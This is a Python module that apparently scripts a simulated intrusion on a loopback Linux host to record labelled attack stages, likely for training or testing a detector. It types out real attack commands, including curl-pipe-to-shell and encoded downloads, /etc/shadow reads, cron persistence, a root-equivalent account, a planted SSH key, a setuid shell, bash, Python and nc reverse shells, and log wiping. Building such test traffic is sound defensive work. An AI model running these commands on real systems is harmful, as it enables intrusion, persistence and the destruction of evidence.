"""The intrusion: scan, guess, log in, and what an intruder then does on a Linux host. Loopback only, harmless payloads.

Owns the order of the stages and what is typed in each; writes down when each began and ended, which is all that
label.py later knows of it. Refuses to know of the administrators. Every stage is bounded by the sessions' limits.
"""

from __future__ import annotations

import base64
import functools
import http.server
import socket
import threading
import time
from collections.abc import Callable

import scanner
from session import Terminal, login, one_command

ATTACKER = "127.0.66.66"
USER = "deploy"
WEB = f"http://{ATTACKER}:8000"
PAYLOADS = {
    "/update.sh": "#!/bin/sh\nid\nuname -a\nmkdir -p /tmp/.X11\ndate > /tmp/.X11/installed\n",
    "/beat.sh": "#!/bin/sh\ndate >> /tmp/.X11/beat\n",
    "/agent.sh": "#!/bin/sh\nsleep 1\nhostname > /tmp/.X11/agent\n",
}
ENCODED = base64.b64encode(f"curl -fsS {WEB}/beat.sh -o /tmp/.X11/run.sh; sh /tmp/.X11/run.sh".encode()).decode()
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ8rHx4cUqkV2vXwq1n0r0mUoG6pQhGmX0fB1o2s3t4u ops@backup"

Mark = dict[str, object]


class Payloads(http.server.BaseHTTPRequestHandler):
    """Serves the three harmless scripts."""

    def do_GET(self) -> None:
        """Answer one of PAYLOADS, or 404."""
        body = PAYLOADS.get(self.path, "").encode()
        self.send_response(200 if body else 404)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        """Say nothing: the attacker's own log is no part of the recording."""


def listen(stop: threading.Event) -> None:
    """Accept reverse shells on port 4444, type `id` and `exit` into each, and hang up."""
    with socket.create_server((ATTACKER, 4444)) as server:
        server.settimeout(1)
        while not stop.is_set():
            try:
                peer, _ = server.accept()
            except TimeoutError:
                continue
            with peer:
                peer.settimeout(5)
                peer.sendall(b"id\nexit\n")
                try:
                    while peer.recv(4096):
                        pass
                except (TimeoutError, ConnectionError):
                    continue


class Intrusion:
    """Runs the stages in order. `marks` holds for each its name, begin and end (epoch seconds)."""

    def __init__(self, password: str) -> None:
        self._password = password
        self.marks: list[Mark] = []

    def run(self) -> None:
        """All stages, about three minutes. Raises when one doesn't do what it must."""
        self._stage("path-probing", functools.partial(scanner.probe_paths, ATTACKER))
        self._stage("web-shell-probing", functools.partial(scanner.probe_web_shells, ATTACKER))
        self._stage("web-exploits", functools.partial(scanner.inject, ATTACKER))
        time.sleep(20)
        self._stage("password-guessing", self._guess)
        time.sleep(6)
        self._remote("discovery", "id; uname -a; cat /etc/passwd | wc -l; whoami; ps -e | wc -l; hostname")
        self._remote("download-to-shell", f"curl -fsS {WEB}/update.sh | sh")
        self._remote("encoded-command", f"echo {ENCODED} | base64 -d | bash")
        transport = login(ATTACKER, USER, (self._password,))
        self._terminal = Terminal(transport, self._password, think=(0.6, 1.6))
        self._typed(
            "dropped-program", f"wget -q -O /tmp/.kworker {WEB}/agent.sh", "chmod +x /tmp/.kworker", "/tmp/.kworker"
        )
        self._typed("shadow-read", "sudo cat /etc/shadow > /tmp/.X11/s", "sudo head -n 3 /etc/shadow")
        self._typed(
            "cron-persistence", f"echo '* * * * * curl -fsS {WEB}/beat.sh | sh' > /tmp/.X11/c", "crontab /tmp/.X11/c"
        )
        self._typed(
            "new-sudo-account",
            "sudo useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadm",
            "sudo usermod -aG sudo sysadm",
        )
        self._typed(
            "authorized-key",
            f"echo '{KEY}' >> ~/.ssh/authorized_keys",
            f"sudo sh -c 'echo \"{KEY}\" >> /root/.ssh/authorized_keys'",
        )
        self._typed("setuid-shell", "sudo cp /bin/bash /tmp/.X11/bash", "sudo chmod u+s /tmp/.X11/bash")
        self._typed(
            "reverse-shell",
            f"bash -c 'bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1'",
            self._python_shell(),
            f"nc -w 3 -e /bin/sh {ATTACKER} 4444",
        )
        self._typed(
            "covering-tracks",
            "rm -f ~/.bash_history",
            "ln -s /dev/null ~/.bash_history",
            "history -c",
            "sudo truncate -s 0 /var/log/auth.log",
            "sudo shred -u /var/log/wtmp",
        )
        self._terminal.leave()

    def _stage(self, name: str, act: Callable[[], object]) -> None:
        begin = time.time()
        act()
        time.sleep(0.5)
        self.marks.append({"stage": name, "begin": begin, "end": time.time()})
        time.sleep(3)

    def _guess(self) -> None:
        if not scanner.guess_all(ATTACKER, USER, self._password):
            raise RuntimeError("the guesses never met the weak password")

    def _remote(self, name: str, command: str) -> None:
        def act() -> None:
            transport = login(ATTACKER, USER, (self._password,))
            one_command(transport, command)
            transport.close()

        self._stage(name, act)

    def _typed(self, name: str, *commands: str) -> None:
        def act() -> None:
            for command in commands:
                self._terminal.type(command)

        self._stage(name, act)

    @staticmethod
    def _python_shell() -> str:
        return (
            "python3 -c 'import socket,subprocess,os;s=socket.socket();"
            f's.connect(("{ATTACKER}",4444));[os.dup2(s.fileno(),n) for n in (0,1,2)];'
            'subprocess.call(["/bin/sh","-i"])\''
        )
